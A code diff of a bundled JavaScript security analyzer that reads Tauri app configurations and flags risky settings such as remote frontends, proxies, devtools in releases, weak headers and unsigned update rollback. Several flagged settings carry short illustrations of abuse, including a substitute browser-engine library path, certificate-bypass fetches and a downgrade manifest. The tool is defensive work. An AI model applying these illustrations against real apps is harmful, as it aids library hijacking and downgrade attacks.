 function camelCase(name) {
-  const joined4 = name.replace(/-([a-z])/g, (_, letter) => letter.toUpperCase());
-  return joined4 === "relaunchDangerousAllowSymlinkMacOS" ? "relaunchDangerousAllowSymlinkMacos" : joined4;
+  const joined5 = name.replace(/-([a-z])/g, (_, letter) => letter.toUpperCase());
+  return joined5 === "relaunchDangerousAllowSymlinkMacOS" ? "relaunchDangerousAllowSymlinkMacos" : joined5;
 }
 function isRightFor(name, { kind }) {
   if (name.endsWith(".scope") || name.endsWith("Scope")) {
@@ -23655,8 +24181,8 @@ function isRightFor(name, { kind }) {
   }
   return kind === "boolean" || kind === "string" && name === "shell.open";
 }
-function refusal(name, known) {
-  const what2 = known ? "has a value of the wrong type" : "is no option that Tauri 1 knows";
+function refusal(name, known2) {
+  const what2 = known2 ? "has a value of the wrong type" : "is no option that Tauri 1 knows";
   return `${code(name)} in the allowlist ${what2}: the app doesn't build. It was read as granting nothing.`;
 }
 
@@ -23683,13 +24209,13 @@ function remoteAccess(config) {
   const sites = entries.flatMap((entry, i) => {
     const earlier = entries.slice(0, i).filter(({ domain }) => domain === entry.domain);
     const taken2 = windowsOf(earlier.filter(({ scheme }) => scheme === null || scheme === entry.scheme));
-    const windows2 = entry.windows.filter(({ text }) => !taken2.has(text));
+    const windows3 = entry.windows.filter(({ text }) => !taken2.has(text));
     const partly = windowsOf(earlier.filter(({ scheme }) => entry.scheme === null && scheme !== null));
-    if (windows2.some(({ text }) => partly.has(text))) {
+    if (windows3.some(({ text }) => partly.has(text))) {
       const message = `${code(entry.domain)} has an entry for one scheme before this one for all, which then decides for the others only. It was read as deciding for all.`;
       gaps2.push(gapAt(entry.url.at, "unsupported", message));
     }
-    return windows2.length === 0 ? [] : [{ ...entry, windows: windows2 }];
+    return windows3.length === 0 ? [] : [{ ...entry, windows: windows3 }];
   });
   return { sites, gaps: gaps2 };
 }
@@ -23715,7 +24241,7 @@ function entryOf(item) {
   ];
 }
 function windowsOf(entries) {
-  return new Set(entries.flatMap(({ windows: windows2 }) => windows2.map(({ text }) => text)));
+  return new Set(entries.flatMap(({ windows: windows3 }) => windows3.map(({ text }) => text)));
 }
 
 // src/readers/tauri-allowlist/scopes.ts
@@ -23834,9 +24360,9 @@ function readPlatform2(project, platform) {
       ...pluginCrates(project).map(
         ({ name, crate, at }) => allow(everyWindow, pluginCommands2(name, crate, at))
       ),
-      ...remote.sites.flatMap(({ url, windows: windows2, plugins, api: opened }) => {
+      ...remote.sites.flatMap(({ url, windows: windows3, plugins, api: opened }) => {
         const pages = (at) => ({
-          windows: windows2,
+          windows: windows3,
           context: { kind: "remote", url: { text: url.text, at } }
         });
         return [
@@ -23883,12 +24409,12 @@ function appCommands(at) {
 function pluginCommands2(name, permission2, at) {
   return { command: `plugin:${name}|*`, permission: permission2, at, matching: { kind: "none" } };
 }
-function allow({ windows: windows2, context }, { command, permission: permission2, at, matching }) {
+function allow({ windows: windows3, context }, { command, permission: permission2, at, matching }) {
   return {
     domain: "ipc",
     effect: "allow",
     platforms: NO_PLATFORM,
-    windows: windows2,
+    windows: windows3,
     webviews: [],
     context,
     plugin: /^plugin:([^|]+)/.exec(command)?.[1] ?? "",
@@ -23904,6 +24430,572 @@ function allow({ windows: windows2, context }, { command, permission: permission
     steps: [],
     platformsAt: null,
     inferred: false
+  };
+}
+
+// src/readers/tauri-config/lever-reader.ts
+function appSection({ major }) {
+  return major === 1 ? "tauri" : "app";
+}
+function nearestTo(config, ...names2) {
+  let nearest2 = config;
+  for (const name of names2) {
+    const next = configKey(nearest2, name);
+    if (next === void 0) break;
+    nearest2 = next;
+  }
+  return nearest2;
+}
+function short(text, longest = 160) {
+  const shown2 = visible(text.slice(0, longest));
+  return text.length > longest ? `${shown2}…` : shown2;
+}
+
+// src/readers/tauri-config/remote-url.ts
+function asUrl(text) {
+  if (!URL.canParse(text)) return void 0;
+  const url = new URL(text);
+  return /^[a-z]:$/.test(url.protocol) ? void 0 : url;
+}
+function originOf2(url) {
+  return url.host === "" ? url.protocol : `${url.protocol}//${url.host}`;
+}
+
+// src/readers/tauri-config/frontend.ts
+var remoteFrontend = (project, platform) => {
+  const url = frontendUrl(project, platform);
+  if (url === void 0) return [];
+  const key = keyOf2(project);
+  const origin = originOf2(url);
+  return [
+    {
+      lever: "remote-frontend",
+      extent: origin,
+      subject: `Pages of ${code(origin)}`,
+      action: "be the app, with everything that is granted to its own pages",
+      example: `GET ${short(url.href)}`,
+      setting: `build.${key}: "${short(url.href)}"`,
+      at: nearestTo(project.config(platform), "build", key).at
+    }
+  ];
+};
+function frontendUrl(project, platform) {
+  const build = member(project.config(platform), "build");
+  const text = asString(configKey(build, keyOf2(project)));
+  return text === void 0 ? void 0 : asUrl(text);
+}
+function keyOf2({ major }) {
+  return major === 1 ? "distDir" : "frontendDist";
+}
+
+// src/readers/tauri-config/windows.ts
+function windowsOf2(project, platform) {
+  const section2 = appSection(project);
+  const windows3 = itemsOf(member(member(project.config(platform), section2), "windows"));
+  return windows3.map((value, index) => ({
+    value,
+    label: asString(member(value, "label")) ?? "main",
+    setting: `${section2}.windows[${index}]`
+  }));
+}
+var windows = (project, platform) => {
+  const frontend = frontendUrl(project, platform);
+  return windowsOf2(project, platform).flatMap((window) => [
+    added(window),
+    ...remotePage(window, frontend),
+    ...proxy(window, platform),
+    ...platform === "windows" ? extensions(window) : []
+  ]);
+};
+function added({ value, label, setting }) {
+  return {
+    lever: "window-added",
+    extent: label,
+    subject: `A window ${code(label)}`,
+    action: "open with whatever capabilities grant to that name",
+    example: `getCurrentWindow().label === ${JSON.stringify(short(label))}`,
+    setting: `${setting}.label: ${JSON.stringify(short(label))}`,
+    comesWith: "app",
+    at: (member(value, "label") ?? value).at
+  };
+}
+function remotePage({ value, label, setting }, frontend) {
+  const written2 = member(value, "url");
+  const url = asUrl(asString(written2) ?? "");
+  if (url === void 0 || written2 === void 0) return [];
+  const origin = originOf2(url);
+  if (frontend !== void 0 && originOf2(frontend) === origin) return [];
+  return [
+    {
+      lever: "remote-window",
+      extent: `${label} ${origin}`,
+      subject: `Pages of ${code(origin)}`,
+      action: `open in the app's window ${code(label)}`,
+      example: `GET ${short(url.href)}`,
+      setting: `${setting}.url: ${JSON.stringify(short(url.href))}`,
+      at: written2.at
+    }
+  ];
+}
+function proxy({ value, label, setting }, platform) {
+  const written2 = configKey(value, "proxyUrl");
+  const text = asString(written2);
+  if (text === void 0 || written2 === void 0) return [];
+  if (platform === "windows" && asString(configKey(value, "additionalBrowserArgs")) !== void 0) return [];
+  const url = asUrl(text);
+  const origin = url === void 0 ? text : originOf2(url);
+  return [
+    {
+      lever: "traffic-proxied",
+      extent: `${label} ${origin}`,
+      subject: `A proxy at ${code(origin)}`,
+      action: `carry what window ${code(label)} loads and sends`,
+      example: `CONNECT example.com:443 via ${short(origin)}`,
+      setting: `${setting}.proxyUrl: ${JSON.stringify(short(text))}`,
+      at: written2.at
+    }
+  ];
+}
+function extensions({ value, label, setting }) {
+  const written2 = configKey(value, "browserExtensionsEnabled");
+  if (written2 === void 0 || asBoolean(written2) !== true) return [];
+  return [
+    {
+      lever: "browser-extensions-allowed",
+      extent: label,
+      subject: "Browser extensions",
+      action: `run in the pages of window ${code(label)}`,
+      example: "chrome.scripting.executeScript({ target: { tabId }, func: () => … })",
+      setting: `${setting}.browserExtensionsEnabled: true`,
+      at: written2.at
+    }
+  ];
+}
+
+// src/readers/tauri-config/browser-switches.ts
+var OFF_BY_DEFAULT = /* @__PURE__ */ new Set(["msWebOOUI", "msPdfOOUI", "msSmartScreenProtection"]);
+var WITHOUT_VALUE = /* @__PURE__ */ new Set(["--remote-debugging-port"]);
+var LISTS2 = /* @__PURE__ */ new Set([
+  "--disable-features",
+  "--enable-features",
+  "--disable-blink-features",
+  "--enable-blink-features"
+]);
+var browserSwitches = (project, platform) => {
+  if (platform !== "windows") return [];
+  return windowsOf2(project, platform).flatMap(({ value, setting }) => {
+    const written2 = configKey(value, "additionalBrowserArgs");
+    const text = asString(written2);
+    if (written2 === void 0 || text === void 0) return [];
+    return switchesIn(text).map(
+      (each) => ({
+        lever: "browser-switch-added",
+        extent: each,
+        subject: "The browser in the app",
+        action: `run with ${code(each)}`,
+        example: `msedgewebview2.exe ${short(each)}`,
+        setting: `${setting}.additionalBrowserArgs: ${JSON.stringify(short(text))}`,
+        at: written2.at
+      })
+    );
+  });
+};
+function switchesIn(text) {
+  return (text.match(/(?:"[^"]*"|[^\s"])+/g) ?? []).flatMap((written2) => {
+    const [, name = "", value] = /^(?:--|-|\/)([^=]*)(?:=([\s\S]*))?$/.exec(written2.replaceAll('"', "")) ?? [];
+    if (name === "") return [];
+    const key = `--${name.toLowerCase()}`;
+    if (value === void 0 || WITHOUT_VALUE.has(key)) return [key];
+    if (!LISTS2.has(key)) return [`${key}=${value}`];
+    const entries = value.split(",").filter((entry) => entry !== "");
+    return entries.filter((entry) => key !== "--disable-features" || !OFF_BY_DEFAULT.has(entry)).map((entry) => `${key}=${entry}`);
+  });
+}
+
+// src/readers/tauri-config/bundle.ts
+var sidecars = (project, platform) => {
+  const config = project.config(platform);
+  const path = project.major === 1 ? ["tauri", "bundle"] : ["bundle"];
+  return stringsOf(configKey(pick2(config, ...path), "externalBin")).map(({ value, at }) => {
+    const program = placeOf(value, project.location.root);
+    return {
+      lever: "sidecar-added",
+      extent: program,
+      subject: "The app",
+      action: `ship and start the program ${code(program)}`,
+      example: `Command.sidecar(${JSON.stringify(short(value))})`,
+      setting: `${path.join(".")}.externalBin: [${JSON.stringify(short(value))}]`,
+      at
+    };
+  });
+};
+function placeOf(program, root) {
+  const parts = program.replaceAll("\\", "/").split("/").filter((part) => part !== "" && part !== ".");
+  const up = parts.findIndex((part) => part !== "..");
+  const folders = root === "" ? [] : root.split("/");
+  if (program.startsWith("/")) return program;
+  if (up <= 0 || up > folders.length) return parts.join("/");
+  return `/${[...folders.slice(0, folders.length - up), ...parts.slice(up)].join("/")}`;
+}
+var chromiumLibrary = (project, platform) => {
+  const embed = pick2(member(project.config(platform), "bundle"), "cef", "embed");
+  if (embed === void 0 || asBoolean(embed) !== false) return [];
+  return [
+    {
+      lever: "engine-not-bundled",
+      extent: "",
+      subject: "Whoever sets the app's environment or writes the library that it names",
+      action: "put in the browser engine that the app loads",
+      example: "TAURI_CEF_LIBRARY_PATH=/tmp/libcef.so notes",
+      setting: "bundle.cef.embed: false",
+      at: embed.at
+    }
+  ];
+};
+
+// src/readers/tauri-config/cargo-cfg.ts
+var OS = {
+  linux: "linux",
+  macOS: "macos",
+  windows: "windows",
+  android: "android",
+  iOS: "ios"
+};
+var TRIPLES = [
+  [/android/, "android"],
+  [/-ios/, "iOS"],
+  [/-darwin|-macos/, "macOS"],
+  [/-windows/, "windows"],
+  [/-linux/, "linux"]
+];
+var DEEPEST2 = 32;
+function mayHold(target, platform) {
+  const condition = /^\s*cfg\s*\(([\s\S]*)\)\s*$/.exec(target)?.[1];
+  if (condition === void 0) {
+    const named2 = TRIPLES.find(([pattern]) => pattern.test(target))?.[1];
+    return named2 === void 0 || named2 === platform;
+  }
+  return new Condition(condition, platform).read() !== false;
+}
+var Condition = class {
+  #tokens;
+  #platform;
+  #at = 0;
+  constructor(text, platform) {
+    this.#tokens = text.match(/[A-Za-z_][A-Za-z0-9_]*|"[^"]*"|[(),=]/g) ?? [];
+    this.#platform = platform;
+  }
+  read(depth = 0) {
+    const name = this.#next();
+    if (this.#takes("=")) return this.#hasValue(name, this.#next().replaceAll('"', ""));
+    if (!this.#takes("(")) return this.#isSet(name);
+    const parts = [];
+    while (depth < DEEPEST2 && this.#at < this.#tokens.length && !this.#takes(")")) {
+      parts.push(this.read(depth + 1));
+      this.#takes(",");
+    }
+    return joined2(name, parts);
+  }
+  #next() {
+    const token = this.#tokens[this.#at] ?? "";
+    this.#at += 1;
+    return token;
+  }
+  #takes(token) {
+    if (this.#tokens[this.#at] !== token) return false;
+    this.#at += 1;
+    return true;
+  }
+  #hasValue(name, value) {
+    if (name === "target_os") return value === OS[this.#platform];
+    if (name === "target_family") return value === (this.#platform === "windows" ? "windows" : "unix");
+    if (name === "target_vendor" && value === "apple")
+      return this.#platform === "macOS" || this.#platform === "iOS";
+    return void 0;
+  }
+  #isSet(name) {
+    if (name === "windows") return this.#platform === "windows";
+    if (name === "unix") return this.#platform !== "windows";
+    return void 0;
+  }
+};
+function joined2(name, parts) {
+  if (name === "not") return parts[0] === void 0 ? void 0 : !parts[0];
+  if (name === "all") return parts.includes(false) ? false : parts.includes(void 0) ? void 0 : true;
+  if (name === "any") return parts.includes(true) ? true : parts.includes(void 0) ? void 0 : false;
+  return void 0;
+}
+
+// src/readers/tauri-config/dependencies.ts
+function dependenciesOn(project, crate, platform) {
+  const ofProject = read.get(project) ?? /* @__PURE__ */ new Map();
+  read.set(project, ofProject);
+  const known2 = ofProject.get(platform) ?? Map.groupBy(allOn(project, platform), (each) => each.crate);
+  ofProject.set(platform, known2);
+  return known2.get(crate) ?? [];
+}
+var read = /* @__PURE__ */ new WeakMap();
+function allOn(project, platform) {
+  const tables = [member(project.manifest, "dependencies")];
+  const targets = member(project.manifest, "target");
+  if (targets?.kind === "object") {
+    for (const [target, { value }] of targets.entries)
+      if (mayHold(target, platform)) tables.push(member(value, "dependencies"));
+  }
+  return tables.flatMap((table3) => {
+    if (table3?.kind !== "object") return [];
+    return [...table3.entries].map(([name, { value }]) => {
+      const isInherited = member(value, "workspace") !== void 0;
+      const shared = isInherited ? sharedDependency(project, name) : void 0;
+      const crate = asString(member(value, "package")) ?? asString(member(shared, "package")) ?? name;
+      return { name, crate, value, shared };
+    });
+  });
+}
+function dependsOn(project, crate, platform) {
+  if (dependenciesOn(project, crate, platform).length > 0) return true;
+  return !isNamedAnywhere(project, crate) && lockedBelow(project).has(crate);
+}
+function dependencyLine(project, crate, platform) {
+  return dependenciesOn(project, crate, platform)[0]?.value;
+}
+function isNamedAnywhere(project, crate) {
+  return PLATFORMS.some((platform) => dependenciesOn(project, crate, platform).length > 0);
+}
+function sharedDependency({ location, files }, name) {
+  for (const folder of withAncestors(location.root)) {
+    const file2 = files.get(inFolder(folder, "Cargo.toml"));
+    const parsed3 = file2 && parseFile(file2);
+    const found2 = parsed3?.ok ? pick2(parsed3.value, "workspace", "dependencies", name) : void 0;
+    if (found2 !== void 0) return found2;
+  }
+  return void 0;
+}
+var below2 = /* @__PURE__ */ new WeakMap();
+function lockedBelow(project) {
+  const known2 = below2.get(project);
+  if (known2 !== void 0) return known2;
+  const file2 = governingLock(project.location.root, project.files);
+  const lock = file2 && readCargoLock(file2);
+  const name = asString(pick2(project.manifest, "package", "name"));
+  const app = lock?.byName.get(name ?? "")?.find(({ source }) => source === "path");
+  const found2 = /* @__PURE__ */ new Set();
+  const seen = /* @__PURE__ */ new Set();
+  const todo = app === void 0 ? [...lock?.packages ?? []] : [app];
+  for (let next = todo.pop(); next !== void 0; next = todo.pop()) {
+    if (seen.has(next)) continue;
+    seen.add(next);
+    found2.add(next.name);
+    for (const { target } of next.dependencies) if (target !== void 0) todo.push(target);
+  }
+  below2.set(project, found2);
+  return found2;
+}
+
+// src/readers/tauri-config/enabled-features.ts
+var DEFAULTS = /* @__PURE__ */ new Map([["tauri-plugin-http", ["cookies"]]]);
+function featuresOf(project, crate, platform) {
+  const dependencies = dependenciesOn(project, crate, platform);
+  const found2 = /* @__PURE__ */ new Map();
+  for (const { value, shared } of dependencies) {
+    for (const item of [...stringsOf(member(value, "features")), ...stringsOf(member(shared, "features"))])
+      found2.set(item.value, item.at);
+  }
+  if (dependencies.some(keepsDefaults)) {
+    const [first] = dependencies;
+    for (const name of DEFAULTS.get(crate) ?? [])
+      if (first && !found2.has(name)) found2.set(name, first.value.at);
+  }
+  const names2 = new Set(dependencies.map(({ name }) => name));
+  for (const { value, at } of ownFeatures(project, platform)) {
+    const [, dependency = "", feature = ""] = /^([^/?]+)\??\/(.+)$/.exec(value) ?? [];
+    if (names2.has(dependency) && !found2.has(feature)) found2.set(feature, at);
+  }
+  return found2;
+}
+function keepsDefaults({ value, shared }) {
+  const own = asBoolean(member(value, "default-features") ?? member(value, "default_features"));
+  const inherited = asBoolean(member(shared, "default-features") ?? member(shared, "default_features"));
+  return shared === void 0 ? own !== false : own === true || inherited !== false;
+}
+function ownFeatures(project, platform) {
+  const table3 = member(project.manifest, "features");
+  const found2 = [];
+  const seen = /* @__PURE__ */ new Set();
+  const todo = [
+    ...stringsOf(member(table3, "default")),
+    ...stringsOf(pick2(project.config(platform), "build", "features"))
+  ];
+  for (let next = todo.pop(); next !== void 0; next = todo.pop()) {
+    found2.push(next);
+    if (seen.has(next.value)) continue;
+    seen.add(next.value);
+    todo.push(...stringsOf(member(table3, next.value)));
+  }
+  return found2;
+}
+
+// src/readers/tauri-config/cargo-features.ts
+var FEATURES = [
+  {
+    crate: "tauri",
+    names: ["unstable"],
+    subject: "Code of the app",
+    action: "show several webviews, with the same permissions, in one window",
+    example: "new Webview(getCurrentWindow(), 'side', { url: 'https://example.com' })"
+  },
+  {
+    crate: "tauri",
+    names: ["webview-data-url", "window-data-url"],
+    subject: "Windows of the app",
+    action: "show pages that are nothing but a `data:` URL",
+    example: "data:text/html,<script>…</script>"
+  },
+  {
+    crate: "tauri-plugin-http",
+    names: ["dangerous-settings"],
+    subject: "Pages with permissions of the http plugin",
+    action: "send requests that accept any certificate",
+    example: "fetch('https://example.com', { danger: { acceptInvalidCerts: true } })"
+  },
+  {
+    crate: "tauri-plugin-http",
+    names: ["unsafe-headers"],
+    subject: "Pages with permissions of the http plugin",
+    action: "send headers that browsers keep for themselves, such as `Origin` and `Cookie`",
+    example: "fetch('https://example.com', { headers: { Origin: 'https://example.com' } })"
+  },
+  {
+    crate: "tauri-plugin-http",
+    names: ["cookies"],
+    subject: "Pages with permissions of the http plugin",
+    action: "use cookies that earlier requests were given",
+    example: "fetch('https://example.com/account')",
+    comesWith: "http plugin"
+  },
+  {
+    crate: "tauri-plugin-fs",
+    names: ["watch"],
+    subject: "Pages with permissions of the fs plugin",
+    action: "be told of changes to files in their scope",
+    example: "watch('/home/user/notes', (event) => …)"
+  }
+];
+var cargoFeatures = (project, platform) => FEATURES.flatMap(({ crate, names: names2, ...rest }) => {
+  const features = featuresOf(project, crate, platform);
+  const name = names2.find((each) => features.has(each));
+  const at = name === void 0 ? void 0 : features.get(name);
+  if (name === void 0 || at === void 0) return [];
+  const setting = `${crate} = { features = ["${name}"] }`;
+  return [{ lever: "cargo-feature-added", extent: `${crate}/${names2[0]}`, setting, at, ...rest }];
+});
+var devtools = (project, platform) => {
+  const at = featuresOf(project, "tauri", platform).get("devtools");
+  if (at === void 0) return [];
+  const inspector = {
+    lever: "devtools-in-release",
+    example: "document.title = 'from the console'",
+    setting: 'tauri = { features = ["devtools"] }',
+    at
+  };
+  const all = windowsOf2(project, platform);
+  const open = all.filter(({ value }) => asBoolean(member(value, "devtools")) !== false);
+  const who = "Whoever sits at the machine";
+  if (open.length === all.length) {
+    return [
+      {
+        ...inspector,
+        extent: "",
+        isWhole: true,
+        subject: who,
+        action: "open the inspector in a release of the app"
+      }
+    ];
+  }
+  return open.map(({ label, setting, value }) => {
+    const written2 = member(value, "devtools");
+    return {
+      ...inspector,
+      extent: label,
+      subject: who,
+      action: `open the inspector in window ${code(label)} of a release`,
+      ...written2 !== void 0 && { setting: `${setting}.devtools: true`, at: written2.at }
+    };
+  });
+};
+
+// src/readers/tauri-config/crates.ts
+var CRATES = [
+  {
+    name: "tauri-plugin-persisted-scope",
+    lever: "scopes-persisted",
+    subject: "Every page with permissions of the fs plugin or the asset protocol",
+    action: "reach a file again after a restart, once a person has picked or dropped it",
+    example: "readTextFile('/home/user/picked-last-year.txt')"
+  },
+  {
+    name: "tauri-plugin-localhost",
+    lever: "served-on-localhost",
+    subject: "Every program and user of the machine",
+    action: "load the app's pages over HTTP",
+    example: "curl http://localhost:9527/"
+  },
+  {
+    name: "tauri-runtime-cef",
+    lever: "engine-replaced",
+    subject: "A Chromium that is part of the app",
+    action: "show the app's pages, in place of the system's webview",
+    example: "cargo tree --invert cef-dll-sys"
+  }
+];
+var crates = (project, platform) => CRATES.flatMap(({ name, ...crate }) => {
+  if (!dependsOn(project, name, platform)) return [];
+  return [
+    { ...crate, extent: "", setting: settingOf(project, name), at: placeOf2(project, name, platform) }
+  ];
+});
+function settingOf(project, name) {
+  const version = project.locked(name)?.version;
+  return version === void 0 ? name : `${name} ${version}`;
+}
+function placeOf2(project, name, platform) {
+  const line = dependencyLine(project, name, platform)?.at ?? project.locked(name)?.at;
+  return line ?? topOf(project.location.config);
+}
+
+// src/readers/tauri-config/deep-links.ts
+var MOBILE = /* @__PURE__ */ new Set(["android", "iOS"]);
+var deepLinks = (project, platform) => {
+  const plugin = pick2(project.config(platform), "plugins", "deep-link");
+  return MOBILE.has(platform) ? mobileLinks(plugin) : desktopLinks(plugin);
+};
+function desktopLinks(plugin) {
+  const desktop = member(plugin, "desktop");
+  const tables = desktop?.kind === "array" ? desktop.items : desktop === void 0 ? [] : [desktop];
+  const schemes2 = tables.flatMap((table3) => stringsOf(member(table3, "schemes")));
+  return schemes2.map(({ value, at }) => link(value, "desktop.schemes", at));
+}
+function mobileLinks(plugin) {
+  return itemsOf(member(plugin, "mobile")).flatMap((domain) => {
+    const host = asString(member(domain, "host"));
+    const schemes2 = stringsOf(member(domain, "scheme"));
+    const written2 = schemes2.length === 0 ? [{ value: "https", at: domain.at }] : schemes2;
+    return written2.map(({ value, at }) => {
+      const scheme = value === "http" ? "https" : value;
+      return link(host === void 0 ? scheme : `${scheme}://${host}`, "mobile", at);
+    });
+  });
+}
+function link(extent, key, at) {
+  const begins = extent.includes("://") ? `${extent}/` : `${extent}://`;
+  return {
+    lever: "link-scheme-claimed",
+    extent,
+    subject: "Any website",
+    action: `open the app with a link that begins with ${code(begins)}`,
+    example: `location.href = '${short(begins)}anything'`,
+    setting: `plugins.deep-link.${key}: [${JSON.stringify(short(extent))}]`,
+    at
   };
 }
 
@@ -23925,24 +25017,609 @@ var globalApi = (project, platform) => {
   ];
 };
 
+// src/readers/tauri-config/header-openness.ts
+function guardedBy(values) {
+  const guards = new Map(Object.entries(values));
+  return (value) => {
+    const left = guards.get((value ?? "").toLowerCase().split(";")[0]?.trim() ?? "");
+    if (left === void 0) return "all";
+    return left === "" ? [] : [{ text: left, isWhole: false, inWords: left }];
+  };
+}
+var whatIsListed = (value) => {
+  const entries = (value ?? "").toLowerCase().split(",").map((entry) => entry.trim());
+  if (entries.includes("*")) return "all";
+  return entries.filter((entry) => entry !== "").map((text) => ({ text, isWhole: false }));
+};
+var whatIsTrue = (value) => value?.toLowerCase() === "true" ? "all" : [];
+var whatIsBelow = (value) => {
+  if (value === void 0) return [];
+  const folders = value.split("/").filter((folder) => folder !== "");
+  return folders.length === 0 ? "all" : [{ text: folders.join(": "), isWhole: true }];
+};
+var FEATURES2 = [
+  "accelerometer",
+  "ambient-light-sensor",
+  "autoplay",
+  "bluetooth",
+  "camera",
+  "clipboard-read",
+  "clipboard-write",
+  "display-capture",
+  "encrypted-media",
+  "fullscreen",
+  "gamepad",
+  "geolocation",
+  "gyroscope",
+  "hid",
+  "identity-credentials-get",
+  "idle-detection",
+  "keyboard-map",
+  "local-fonts",
+  "local-network-access",
+  "magnetometer",
+  "microphone",
+  "midi",
+  "payment",
+  "picture-in-picture",
+  "publickey-credentials-create",
+  "publickey-credentials-get",
+  "screen-wake-lock",
+  "serial",
+  "speaker-selection",
+  "storage-access",
+  "usb",
+  "web-share",
+  "window-management",
+  "xr-spatial-tracking"
+];
+var openFeatures = (value) => {
+  const policies = policiesIn(value ?? "");
+  if (policies.size === 0) return "all";
+  return FEATURES2.flatMap((feature) => {
+    const allowed = policies.get(feature);
+    if (allowed === void 0 || allowed.includes("*")) return [{ text: feature, isWhole: true }];
+    return allowed.map((origin) => ({ text: `${feature}: ${origin}`, isWhole: false }));
+  });
+};
+function policiesIn(value) {
+  const policies = /* @__PURE__ */ new Map();
+  for (const member2 of value.split(",")) {
+    const [name = "", ...list] = member2.split("=");
+    if (list.length === 0) continue;
+    const origins = list.join("=").replace(/[()"]/g, " ").split(/\s+/);
+    policies.set(
+      name.trim(),
+      origins.filter((origin) => origin !== "")
+    );
+  }
+  return policies;
+}
+
+// src/readers/tauri-config/headers.ts
+var ELSEWHERE = "Pages of other origins";
+var HEADERS2 = [
+  {
+    name: "Permissions-Policy",
+    open: openFeatures,
+    subject: "The app's pages and sites in their frames",
+    action: "use devices and features",
+    example: '<iframe src="https://example.com" allow="camera; microphone"></iframe>'
+  },
+  {
+    name: "Cross-Origin-Opener-Policy",
+    open: guardedBy({
+      "same-origin": "",
+      "same-origin-allow-popups": "pages it opens",
+      "noopener-allow-popups": "pages it opens"
+    }),
+    subject: "Pages that the app opens or that open it",
+    action: "hold on to each other's window",
+    example: "window.opener.location = 'https://example.com'"
+  },
+  {
+    name: "Cross-Origin-Embedder-Policy",
+    open: guardedBy({ "require-corp": "", credentialless: "without credentials" }),
+    subject: "The app's pages",
+    action: "embed files of sites that didn't agree to it",
+    example: '<img src="https://example.com/private.png">'
+  },
+  {
+    name: "Cross-Origin-Resource-Policy",
+    open: guardedBy({ "same-origin": "", "same-site": "the same site" }),
+    subject: ELSEWHERE,
+    action: "embed the app's own files",
+    example: '<img src="tauri://localhost/private.png">'
+  },
+  {
+    name: "X-Content-Type-Options",
+    open: guardedBy({ nosniff: "" }),
+    subject: "The app's own files",
+    action: "run as scripts or styles, whatever type they are sent with",
+    example: '<script src="/notes.txt"></script>'
+  },
+  {
+    name: "Access-Control-Allow-Credentials",
+    open: whatIsTrue,
+    subject: ELSEWHERE,
+    action: "ask for the app's own pages with credentials",
+    example: "fetch('tauri://localhost/', { credentials: 'include' })"
+  },
+  ...["Access-Control-Allow-Headers", "Access-Control-Allow-Methods", "Access-Control-Expose-Headers"].map(
+    (name) => ({
+      name,
+      open: whatIsListed,
+      subject: ELSEWHERE,
+      action: `go further in requests for the app's own pages, as \`${name}\` says`,
+      example: "fetch('tauri://localhost/', { method: 'PUT', headers: { 'X-Any': '1' } })"
+    })
+  ),
+  {
+    name: "Timing-Allow-Origin",
+    open: whatIsListed,
+    subject: ELSEWHERE,
+    action: "measure how the app's own files load",
+    example: "performance.getEntriesByType('resource')"
+  },
+  {
+    name: "Service-Worker-Allowed",
+    open: whatIsBelow,
+    subject: "A service worker of the app",
+    action: "answer for pages outside of its own folder",
+    example: "navigator.serviceWorker.register('/a/sw.js', { scope: '/' })"
+  }
+];
+var headers = (project, platform) => {
+  const config = project.config(platform);
+  return HEADERS2.flatMap(({ name, open, subject, action, example }) => {
+    const value = sentAs(project, name, pick2(config, "app", "security", "headers", name));
+    const openness = open(value);
+    const { at } = nearestTo(config, "app", "security", "headers", name);
+    const setting = value === void 0 ? `${name}: (not sent)` : `${name}: ${short(value)}`;
+    const all = { lever: "header-weakened", extent: name, subject, action, example, setting, at };
+    const whole = open(void 0) === "all" ? { ...all, isWhole: true, comesWith: "app" } : { ...all, isWhole: true };
+    if (openness === "all") return [whole];
+    return openness.map(({ text, isWhole, inWords: inWords3 = code(text) }) => ({
+      ...whole,
+      isWhole,
+      extent: `${name}: ${text}`,
+      action: `${action} (${inWords3})`
+    }));
+  });
+};
+function sentAs(project, name, value) {
+  if (project.major === 1) return void 0;
+  const isMisspelt = name === "Permissions-Policy" && isBefore(project.locked("tauri-utils")?.version, "2.10.0");
+  return isMisspelt ? void 0 : textOf2(value)?.trim();
+}
+function textOf2(value) {
+  if (value?.kind === "array")
+    return stringsOf(value).map((item) => item.value).join(", ");
+  if (value?.kind !== "object") return asString(value);
+  return [...value.entries].map(([key, entry]) => `${key} ${asString(entry.value) ?? ""}`).join("; ");
+}
+
+// src/readers/tauri-config/minisign-key.ts
+function publicKey(text) {
+  const decoded3 = bytesOf(text.trim());
+  const lines2 = decoded3 === void 0 ? text : String.fromCharCode(...decoded3.slice(0, LONGEST_KEY));
+  const key = lines2.split("\n").map((line) => line.trim()).find((line) => line.startsWith("RW"));
+  return key ?? text.trim();
+}
+function keyNumber(key) {
+  const bytes = bytesOf(key);
+  if (bytes === void 0 || bytes.length < 10) return void 0;
+  const number = bytes.slice(2, 10).reverse();
+  return number.map((byte) => byte.toString(16).padStart(2, "0")).join("").toUpperCase();
+}
+var LONGEST_KEY = 4e3;
+function bytesOf(text) {
+  if (text.length > LONGEST_KEY || !/^[A-Za-z0-9+/]+=*$/.test(text)) return void 0;
+  try {
+    return Array.from(atob(text), (character) => character.charCodeAt(0));
+  } catch {
+    return void 0;
+  }
+}
+
+// src/readers/tauri-config/update-rollback.ts
+var CRATE = "tauri-plugin-updater";
+function rollback(project, settings) {
+  const signed = configKey(settings, "requireSignedVersion");
+  const older = configKey(settings, "allowDowngrades");
+  const common = {
+    lever: "rollback-allowed",
+    example: '{ "version": "99.0.0", "url": "https://example.com/app-1.0.0.tar.gz" }'
+  };
+  const found2 = [];
+  if (asBoolean(signed) !== true || !updaterKnows(project, "2.12.0")) {
+    const tooOld = asBoolean(signed) === true ? project.locked(CRATE) : void 0;
+    found2.push({
+      ...common,
+      extent: "unsigned-version",
+      subject: "Whoever answers for the update server",
+      action: "have an old release installed under a new version number",
+      setting: tooOld === void 0 ? "plugins.updater.requireSignedVersion: false" : `${CRATE} ${tooOld.version}`,
+      comesWith: "updater",
+      at: tooOld?.at ?? (signed ?? settings).at
+    });
+  }
+  if (asBoolean(older) === true && updaterKnows(project, "2.12.0")) {
+    found2.push({
+      ...OLDER,
+      ...common,
+      isWhole: true,
+      setting: "plugins.updater.allowDowngrades: true",
+      at: (older ?? settings).at
+    });
+  }
